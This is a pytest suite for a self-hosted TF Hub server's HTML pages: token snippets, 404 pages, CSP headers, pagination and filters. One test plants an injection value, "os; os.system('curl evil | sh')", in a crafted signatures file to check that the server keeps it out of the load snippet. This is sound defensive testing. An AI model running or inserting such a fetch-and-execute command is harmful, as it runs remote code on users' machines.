"""tfhub serve's HTML pages against a real server: the snippets they show, the docs they render
and the 404 page."""

from __future__ import annotations

import html
import re
import threading
import time
import urllib.parse
from html.parser import HTMLParser
from pathlib import Path

import pytest
import requests
from tests._helpers import hub_server
from tests._helpers.archives import MODEL_FILES, make_tar_gz, read_tree
from tests._helpers.hub_server import (
    free_port,
    has_ipv6_loopback,
    serve_hub,
    signature_summary_json,
    write_model_doc,
    write_publisher,
    write_signatures,
)

import tfhub as hub
from tfhub.hub.app import create_app
from tfhub.hub.settings import ServeSettings

TOKEN = "page-token-for-tests"


def _hub_with_a_model(root: Path) -> Path:
    """Writes lab/half-plus-two/1 with its archive into the hub `root`; returns its doc."""
    write_publisher(root, "lab", "Lab")
    doc = write_model_doc(root, "lab/half-plus-two/1", description="Halves and adds two.")
    make_tar_gz(doc.with_name("1.tar.gz"))
    return doc


def _token_host_of_page(url: str) -> str:
    page = requests.get(url, auth=("me", TOKEN), timeout=10)
    assert page.status_code == 200, page.text
    found = re.search(r"TFHUB_TOKEN_HOST=(\S+)", page.text)
    assert found is not None, page.text
    return found[1]


def _resolves_with_the_snippets_entry(page_url: str, model_url: str, monkeypatch) -> None:
    monkeypatch.setenv("TFHUB_TOKEN", TOKEN)
    monkeypatch.setenv("TFHUB_TOKEN_HOST", _token_host_of_page(page_url))
    assert read_tree(hub.resolve(model_url)) == MODEL_FILES


def test_the_token_snippet_names_the_entry_the_client_matches_below_a_path(tmp_path, monkeypatch):
    """With --base-url http://127.0.0.1:PORT/hub the snippet said TFHUB_TOKEN_HOST=
    127.0.0.1:PORT/hub, an entry the client never matches (401)."""
    root = tmp_path / "root"
    _hub_with_a_model(root)
    (tmp_path / "tokens").write_text(f"{TOKEN}\n")
    port = free_port()
    options = ["--token-file", str(tmp_path / "tokens"), "--base-url"]
    options.append(f"http://127.0.0.1:{port}/hub")
    with serve_hub(root, tmp_path / "serve.log", *options, port=port) as server:
        url = server.url("hub/lab/half-plus-two/1")
        _resolves_with_the_snippets_entry(url, url, monkeypatch)


@pytest.mark.skipif(not has_ipv6_loopback(), reason="this machine cannot listen on ::1")
def test_the_token_snippet_names_the_entry_the_client_matches_on_ipv6(tmp_path, monkeypatch):
    """With the Host [::1]:PORT the snippet said [::1]:PORT; the client matches ::1:PORT."""
    root = tmp_path / "root"
    _hub_with_a_model(root)
    (tmp_path / "tokens").write_text(f"{TOKEN}\n")
    # The helper waits for /healthz at server.url(): point it at the IPv6 loopback.
    monkeypatch.setattr(
        hub_server.HubProcess, "url", lambda self, path="": f"http://[::1]:{self.port}/{path}"
    )
    options = ["--host", "::1", "--token-file", str(tmp_path / "tokens")]
    with serve_hub(root, tmp_path / "serve.log", *options) as server:
        url = server.url("lab/half-plus-two/1")
        _resolves_with_the_snippets_entry(url, url, monkeypatch)


# Under MAX_RENDERED_CHARS: one of the slowest inputs found (nh3 on nested lists), ~0.5 s here.
SLOW_BODY = "<ul><li>" * 8000


def test_a_slow_doc_renders_while_other_requests_are_answered(tmp_path):
    """The page's render (markdown-it, nh3) ran in the event loop: /healthz waited for it."""
    write_publisher(tmp_path, "lab", "Lab")
    write_model_doc(tmp_path, "lab/slow/1", body=SLOW_BODY)
    with serve_hub(tmp_path, tmp_path / "serve.log") as server:
        took: list[float] = []

        def fetch_page() -> None:
            started = time.perf_counter()
            assert requests.get(server.url("lab/slow/1"), timeout=60).status_code == 200
            took.append(time.perf_counter() - started)

        fetching = threading.Thread(target=fetch_page)
        fetching.start()
        waits = []
        while fetching.is_alive():
            started = time.perf_counter()
            assert requests.get(server.url("healthz"), timeout=60).status_code == 200
            waits.append(time.perf_counter() - started)
            time.sleep(0.01)
        fetching.join()
    assert took, "the page was not answered"
    assert len(waits) >= 3 and max(waits) < took[0] / 4, (took, waits)


def test_a_doc_longer_than_the_renderer_takes_is_shown_as_plain_text(tmp_path):
    write_publisher(tmp_path, "lab", "Lab")
    body = "<div>" * 14_000  # 70,000 characters, above the cap (250 KB of them took 12 s).
    write_model_doc(tmp_path, "lab/huge/1", body=body)
    with serve_hub(tmp_path, tmp_path / "serve.log") as server:
        page = requests.get(server.url("lab/huge/1"), timeout=60)
    assert page.status_code == 200
    assert "This documentation is 70,0" in page.text and "this hub renders" in page.text
    assert "&lt;div&gt;" * 100 in page.text and "<div><div>" not in page.text


def test_the_load_snippet_imports_only_module_names(tmp_path):
    """A crafted `<version>.signatures.json` put `import os; os.system(...)` into the snippet."""
    doc = _hub_with_a_model(tmp_path)
    summary = signature_summary_json()
    summary["op_libraries"] = ["os; os.system('curl evil | sh')", "x\nimport shutil", "scann"]
    write_signatures(doc, summary)
    with serve_hub(tmp_path, tmp_path / "serve.log") as server:
        page = requests.get(server.url("lab/half-plus-two/1"), timeout=10)
        api = requests.get(server.url("api/models/lab/half-plus-two"), timeout=10).json()
    snippet = re.search(r'<pre id="snippet-load"><code>(.*?)</code>', page.text, re.S)
    assert snippet is not None, page.text
    imports = [line for line in snippet[1].splitlines() if line.startswith("import ")]
    assert imports == [
        "import tensorflow_hub as hub  # or: import tfhub as hub",
        "import scann  # the model uses its ops (tfhub imports it if installed)",
    ]
    assert "os.system" not in page.text and "shutil" not in page.text
    assert api["versions"][0]["signatures"]["op_libraries"] == ["scann"]


def test_the_reserved_publisher_names_are_the_servers_top_level_routes(tmp_path):
    """doc_handles.RESERVED_PUBLISHERS must name every first segment of the app's own routes
    that could be a publisher's name (not `favicon.ico`: a publisher's has no `.`)."""
    from tfhub.hub.doc_handles import PUBLISHER_PATTERN, RESERVED_PUBLISHERS

    app = create_app(ServeSettings(root=str(tmp_path), access_log=False, rescan_seconds=0))
    while not hasattr(app, "routes"):  # The Starlette app inside the ASGI wrappers.
        app = app.app
    firsts = {route.path.strip("/").split("/")[0] for route in app.routes}
    assert "favicon.ico" in firsts
    assert {f for f in firsts if re.fullmatch(PUBLISHER_PATTERN, f)} == RESERVED_PUBLISHERS


def test_the_hub_url_placeholder_is_replaced_on_every_page_with_a_doc(tmp_path):
    """https://HUB_HOST was replaced on model pages only: publisher and collection pages kept
    links to https://HUB_HOST/..."""
    doc = _hub_with_a_model(tmp_path)
    text = "See [the model](https://HUB_HOST/lab/half-plus-two/1)."
    doc.write_text(doc.read_text() + f"\n{text}\n")
    publisher = tmp_path / "assets/docs/lab/lab.md"
    publisher.write_text(publisher.read_text() + f"\n{text}\n")
    collection = tmp_path / "assets/docs/lab/collections/favourites/1.md"
    collection.parent.mkdir(parents=True)
    collection.write_text(
        "# Collection lab/favourites/1\nOur favourites.\n\n<!-- task: text-embedding -->\n\n"
        f"## Overview\n{text}\n"
    )
    with serve_hub(tmp_path, tmp_path / "serve.log") as server:
        link = f'href="{server.url("lab/half-plus-two/1")}"'
        for path in ("lab/half-plus-two/1", "lab", "lab/collections/favourites/1"):
            page = requests.get(server.url(path), timeout=10).text
            assert link in page and "HUB_HOST" not in page, path


def test_the_404_page_names_the_versions_and_searches_for_the_name(tmp_path):
    """/lab/many/99 said 'no model, collection or publisher' though lab/many exists, and the
    search link of /lab/a+b was ?q=a+b (a search for 'a b')."""
    _hub_with_a_model(tmp_path)
    for version in (1, 2, 10):
        write_model_doc(tmp_path, f"lab/many/{version}")
    with serve_hub(tmp_path, tmp_path / "serve.log") as server:
        missing = requests.get(server.url("lab/many/99"), timeout=10)
        unknown = requests.get(server.url("lab/a+b"), timeout=10)
        base = server.url("").rstrip("/")
    assert missing.status_code == 404
    assert f'The model <a href="{base}/lab/many">lab/many</a> has no version 99.' in missing.text
    links = re.findall(r'href="[^"]*(/lab/many/\d+)"', missing.text)
    assert links == ["/lab/many/1", "/lab/many/2", "/lab/many/10"]
    assert "no model, collection or publisher" not in missing.text
    assert unknown.status_code == 404 and "no model, collection or publisher" in unknown.text
    search = re.search(r'<a id="search-for-it" href="([^"]*)"', unknown.text)
    assert search is not None, unknown.text
    query = urllib.parse.urlsplit(html.unescape(search[1])).query
    assert urllib.parse.parse_qs(query) == {"q": ["a+b"]}


def test_a_doc_whose_version_is_too_long_for_int_is_skipped_at_start_and_on_rescan(
    tmp_path, caplog
):
    """More than 4,300 digits in a version made int() raise a ValueError: `tfhub serve` did not
    start, and a rescan failed whole (new versions were never served).

    The watcher takes its first look at the tree after the server has started: docs written
    before that look are in neither the first scan nor a change it sees. Under load (load
    average ~10) this test wrote lab/late/1 before that look and waited in vain, so it first
    waits until the watcher has seen a change (a touched doc), then writes."""
    from tfhub.hub.runner import BackgroundServer

    caplog.set_level("INFO", logger="tfhub.hub.refresh")
    model_doc = _hub_with_a_model(tmp_path)
    huge = tmp_path / "assets/docs/lab/models/huge"
    huge.mkdir(parents=True)
    (huge / "1.md").write_text(f"# Module lab/huge/{'7' * 5000}\nHuge.\n")
    settings = ServeSettings(root=str(tmp_path), access_log=False, rescan_seconds=0.1)
    server = BackgroundServer(settings).start(timeout=60)
    try:
        assert "assets/docs/lab/models/huge/1.md:1: the handle on the first line" in caplog.text
        url = server.url("lab/late/1?tf-hub-format=compressed")
        assert requests.get(url, timeout=30).status_code == 404
        deadline = time.monotonic() + 60
        while "Re-scanned" not in caplog.text:  # The watcher looks: it will see what follows.
            assert time.monotonic() < deadline, "the watcher never saw a touched doc"
            model_doc.touch()
            time.sleep(0.2)
        (huge / "2.md").write_text(f"# Module lab/huge/{'8' * 5000}\nHuge.\n")
        make_tar_gz(write_model_doc(tmp_path, "lab/late/1").with_name("1.tar.gz"))
        deadline = time.monotonic() + 60
        while requests.get(url, timeout=30).status_code != 200:
            assert time.monotonic() < deadline, "the rescan did not pick up lab/late/1"
            time.sleep(0.05)
        page = requests.get(server.url("lab/half-plus-two/1"), timeout=30)
        assert page.status_code == 200
    finally:
        server.stop()
    assert "Re-scanning" not in caplog.text


class _GovernedUrls(HTMLParser):
    """The URLs of a page that its Content-Security-Policy governs, by directive."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag == "link" and values.get("rel") == "stylesheet":
            self.found.append(("style-src", values.get("href") or ""))
        elif tag == "form":
            self.found.append(("form-action", values.get("action") or ""))
        elif tag == "script":
            self.found.append(("script-src", values.get("src") or ""))


def _allowed(policy: str, directive: str, url: str, page_url: str) -> bool:
    """Whether the policy lets the page at `page_url` use `url` for `directive` (the subset of
    CSP the hub's header uses: 'self', 'none', scheme and origin sources)."""
    directives = {}
    for part in policy.split(";"):
        name, *sources = part.split()
        directives[name] = sources
    sources = directives.get(directive, directives.get("default-src", []))
    target, page = urllib.parse.urlsplit(url), urllib.parse.urlsplit(page_url)
    for source in sources:
        if source == "'self'" and (target.scheme, target.netloc) == (page.scheme, page.netloc):
            return True
        if source.endswith(":") and target.scheme == source[:-1]:
            return True
        if "://" in source and f"{target.scheme}://{target.netloc}" == source.rstrip("/"):
            return True
    return False


def test_with_a_base_url_of_another_origin_the_csp_allows_the_pages_css_and_forms(tmp_path):
    """The pages linked their CSS and search forms to absolute --base-url URLs: a browser that
    reached the hub at another origin (the server's own address, a proxy) met style-src 'self'
    and form-action 'self', and the pages came unstyled with a search that did nothing."""
    from tfhub.hub.runner import BackgroundServer

    _hub_with_a_model(tmp_path)
    settings = ServeSettings(
        root=str(tmp_path),
        access_log=False,
        rescan_seconds=0,
        base_url="https://hub.example.test/hub",
    )
    with BackgroundServer(settings) as server:
        for path in ("", "hub/", "lab", "hub/lab/half-plus-two/1", "lab/nope/1"):
            page_url = server.url(path)
            answer = requests.get(page_url, timeout=10)
            policy = answer.headers["Content-Security-Policy"]
            parser = _GovernedUrls()
            parser.feed(answer.text)
            for directive, url in parser.found:
                used = urllib.parse.urljoin(page_url, html.unescape(url))
                assert _allowed(policy, directive, used, page_url), (path, directive, used)
                if directive == "style-src":
                    css = requests.get(used, timeout=10)
                    assert css.status_code == 200 and "text/css" in css.headers["Content-Type"]
            assert ("style-src", "/hub/static/hub.css") in parser.found, path
            assert ("form-action", "/hub/") in parser.found, path
        model = requests.get(server.url("hub/lab/half-plus-two/1"), timeout=10).text
        assert 'hub.load("https://hub.example.test/hub/lab/half-plus-two/1")' in model


def test_a_publisher_page_lists_a_page_of_models_and_links_them_all(tmp_path):
    """A publisher's page listed every model it has: 3,000 made an 870 KB page. It lists the
    first 50 and links the index filtered by the publisher, which pages through them all."""
    write_publisher(tmp_path, "lab", "Lab")
    for number in range(60):
        write_model_doc(tmp_path, f"lab/model-{number:02d}/1", description=f"Model {number}.")
    with serve_hub(tmp_path, tmp_path / "serve.log") as server:
        page = requests.get(server.url("lab"), timeout=10).text
        listed = re.findall(r'class="handle" href="[^"]*/(lab/model-\d+)/1"', page)
        assert listed == [f"lab/model-{number:02d}" for number in range(50)]
        link = re.search(r'<p class="count" id="all-models">[^<]*<a href="([^"]+)"', page)
        assert link is not None, page
        everything = requests.get(html.unescape(link[1]), timeout=10).text
        assert "60 of 60 models (1–50 shown)" in everything
        assert "<title>Models by lab (1–50 of 60) · tfhub</title>" in everything


def test_tfhub_dev_urls_of_what_the_hub_has_lead_to_the_hub(tmp_path):
    """A fork of tfhub.dev links its models at tfhub.dev (collections list them so, usage
    snippets load them so): the pages kept those links, which lead to Kaggle, or nowhere on a
    hub without internet access. Those of a model, version, collection or publisher the hub
    has now lead to the hub; others are left as written."""
    _hub_with_a_model(tmp_path)
    collection = tmp_path / "assets/docs/lab/collections/favourites/1.md"
    collection.parent.mkdir(parents=True)
    collection.write_text(
        "# Collection lab/favourites/1\nOur favourites.\n\n<!-- task: text-embedding -->\n\n"
        "## Models\n| Model |\n|---|\n"
        "| [versioned](https://tfhub.dev/lab/half-plus-two/1) |\n"
        "| [latest](https://tfhub.dev/lab/half-plus-two) |\n"
        "| [elsewhere](https://tfhub.dev/google/nnlm-en-dim50/2) |\n"
        "| [no such version](https://tfhub.dev/lab/half-plus-two/7) |\n\n"
        "See https://tfhub.dev/lab. Or the [collection](https://tfhub.dev/lab/collections/favourites/1).\n\n"
        '    hub.load("https://tfhub.dev/lab/half-plus-two/1")\n'
    )
    with serve_hub(tmp_path, tmp_path / "serve.log") as server:
        text = requests.get(server.url("lab/collections/favourites/1"), timeout=10).text
    base = server.url("").rstrip("/")
    links = dict(re.findall(r'<a href="([^"]+)"[^>]*>([^<]+)</a>', text))
    assert links[f"{base}/lab/half-plus-two/1"] == "versioned"
    assert links[f"{base}/lab/half-plus-two"] == "latest"
    assert links["https://tfhub.dev/google/nnlm-en-dim50/2"] == "elsewhere"
    assert links["https://tfhub.dev/lab/half-plus-two/7"] == "no such version"
    assert links[f"{base}/lab/collections/favourites/1"] == "collection"
    assert f"See {base}/lab." in text
    assert f'hub.load("{base}/lab/half-plus-two/1")' in text


def test_a_doc_with_no_body_shows_no_empty_box(tmp_path):
    """A model, publisher or collection doc with nothing after its metadata showed an empty
    bordered box at the end of its page."""
    docs = tmp_path / "assets/docs"
    (docs / "lab").mkdir(parents=True)
    (docs / "lab/lab.md").write_text("# Publisher lab\nLab.\n")
    (docs / "lab/models/bare").mkdir(parents=True)
    (docs / "lab/models/bare/1.md").write_text(
        "# Module lab/bare/1\nBare.\n\n<!-- asset-path: https://example.com/bare.tar.gz -->\n"
        "<!-- task: text-embedding -->\n<!-- fine-tunable: false -->\n"
        "<!-- format: saved_model_2 -->\n"
    )
    (docs / "lab/collections/few").mkdir(parents=True)
    (docs / "lab/collections/few/1.md").write_text(
        "# Collection lab/few/1\nFew.\n\n<!-- task: text-embedding -->\n"
    )
    with serve_hub(tmp_path, tmp_path / "serve.log") as server:
        for path in ["lab/bare/1", "lab", "lab/collections/few/1"]:
            page = requests.get(server.url(path), timeout=10)
            assert page.status_code == 200, (path, page.text)
            assert "<article" not in page.text, path


def test_an_index_page_past_the_last_model_shows_the_last_page(tmp_path):
    """?start= past the end (a link kept from a larger hub or search) showed the last model
    alone ('60 of 60 models (60–60 shown)')."""
    write_publisher(tmp_path, "lab", "Lab")
    for number in range(60):
        write_model_doc(tmp_path, f"lab/model-{number:02d}/1", description=f"Model {number}.")
    with serve_hub(tmp_path, tmp_path / "serve.log") as server:
        for start in ["60", "1000", "99999999999999999999999"]:
            page = requests.get(server.url(f"?start={start}"), timeout=10).text
            assert "60 of 60 models (51–60 shown)" in page, start
        assert "(56–60 shown)" in requests.get(server.url("?start=55"), timeout=10).text


def _hub_with_lite_versions(root: Path) -> None:
    """lab/half-plus-two/1 and two Lite docs: version 1 derives from it, version 2 from a
    model the hub does not have."""
    _hub_with_a_model(root)
    models = root / "assets/docs/lab/models/half-plus-two"
    for version, parent in [(1, "lab/half-plus-two/1"), (2, "lab/elsewhere/1")]:
        (models / "lite").mkdir(exist_ok=True)
        (models / f"lite/{version}.md").write_text(
            f"# Lite lab/half-plus-two/{version}\nThe TF Lite version.\n\n"
            f"<!-- asset-path: https://example.com/{version}.tflite -->\n"
            f"<!-- parent-model: {parent} -->\n"
        )


def test_a_derived_docs_parent_model_links_its_page(tmp_path):
    """A Lite, Tfjs or Coral doc's parent-model (the module it derives from) was plain text:
    its page did not lead to the module's page, as tfhub.dev's did."""
    _hub_with_lite_versions(tmp_path)
    with serve_hub(tmp_path, tmp_path / "serve.log") as server:
        linked = requests.get(server.url("lab/lite-model/half-plus-two/1"), timeout=10).text
        unknown = requests.get(server.url("lab/lite-model/half-plus-two/2"), timeout=10).text
    base = server.url("").rstrip("/")
    row = '<tr><th>parent-model</th><td><a href="{}" rel="noopener noreferrer nofollow">{}</a>'
    assert row.format(f"{base}/lab/half-plus-two/1", "lab/half-plus-two/1") in linked
    assert "<tr><th>parent-model</th><td>lab/elsewhere/1</td></tr>" in unknown


def test_a_modules_page_lists_its_other_formats(tmp_path):
    """tfhub.dev's model pages led to the Lite, Tfjs and Coral versions of a model; here a
    module's page named none of them (only the index's search could find them)."""
    _hub_with_lite_versions(tmp_path)
    with serve_hub(tmp_path, tmp_path / "serve.log") as server:
        page = requests.get(server.url("lab/half-plus-two/1"), timeout=10).text
    formats = re.search(r'<ul id="formats">(.*?)</ul>', page, re.S)
    assert formats is not None, page
    link = f'<a href="{server.url("lab/lite-model/half-plus-two/1")}">'
    assert re.findall(r"<li>(.*?)</li>", formats[1]) == [
        f"Lite: {link}lab/lite-model/half-plus-two/1</a>"
    ]


class _Selects(HTMLParser):
    """The options of each <select> of a page: {select name: [option text, ...]} outside and
    inside an <optgroup> (`others`), and the selected values."""

    def __init__(self) -> None:
        super().__init__()
        self.options: dict[str, list[str]] = {}
        self.others: dict[str, list[str]] = {}
        self.selected: dict[str, str] = {}
        self._select: str | None = None
        self._option: str | None = None
        self._group = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag == "select":
            self._select = values["name"] or ""
            self.options[self._select], self.others[self._select] = [], []
        elif tag == "optgroup":
            self._group = True
        elif tag == "option" and self._select is not None:
            self._option = ""
            if "selected" in values:
                self.selected[self._select] = values["value"] or ""

    def handle_data(self, data: str) -> None:
        if self._option is not None:
            self._option += data

    def handle_endtag(self, tag: str) -> None:
        if tag == "option" and self._select is not None and self._option is not None:
            shown = self.others if self._group else self.options
            shown[self._select].append(self._option.strip())
            self._option = None
        elif tag == "optgroup":
            self._group = False
        elif tag == "select":
            self._select = None


def _selects(url: str, **params: str) -> _Selects:
    answer = requests.get(url, params=params, timeout=10)
    assert answer.status_code == 200, answer.text
    parsed = _Selects()
    parsed.feed(answer.text)
    return parsed


def test_each_filter_counts_its_values_with_the_other_filters_and_sets_apart_the_empty(
    tmp_path,
):
    """The selects listed every value of the hub with the hub's counts: with task set to
    text-embedding, architecture offered mobilenet-v2 (1), which then found no model. Values
    that find models come first, counted with the query and the other filters; the others
    come apart (a form changed in several places before it is sent may still need them)."""
    write_publisher(tmp_path, "lab", "Lab")
    write_model_doc(tmp_path, "lab/words/1", architecture="mlp", language="en")
    write_model_doc(tmp_path, "lab/sentences/1", architecture="transformer", language="de")
    write_model_doc(
        tmp_path, "lab/pictures/1", task="image-feature-vector", architecture="mobilenet-v2"
    )
    with serve_hub(tmp_path, tmp_path / "serve.log") as server:
        everything = _selects(server.url(""))
        text = _selects(server.url(""), task="text-embedding")
        german = _selects(server.url(""), task="text-embedding", language="de")
        searched = _selects(server.url(""), q="pictures")
        nothing = _selects(server.url(""), task="no-such-task")
    assert everything.options["architecture"] == [
        "any",
        "mlp (1)",
        "mobilenet-v2 (1)",
        "transformer (1)",
    ]
    assert everything.others["architecture"] == []
    assert text.options["architecture"] == ["any", "mlp (1)", "transformer (1)"]
    assert text.others["architecture"] == ["mobilenet-v2 (0)"]
    # A filter's own other values stay counted with the other filters only.
    assert text.options["task"] == ["any", "image-feature-vector (1)", "text-embedding (2)"]
    assert german.options["architecture"] == ["any", "transformer (1)"]
    assert german.options["task"] == ["any", "text-embedding (1)"]
    assert german.others["task"] == ["image-feature-vector (0)"]
    assert german.selected == {"task": "text-embedding", "language": "de"}
    assert searched.options["task"] == ["any", "image-feature-vector (1)"]
    assert nothing.others["task"] == ["no-such-task (0)"]
    assert nothing.selected == {"task": "no-such-task"}
    assert nothing.options["architecture"] == ["any"]
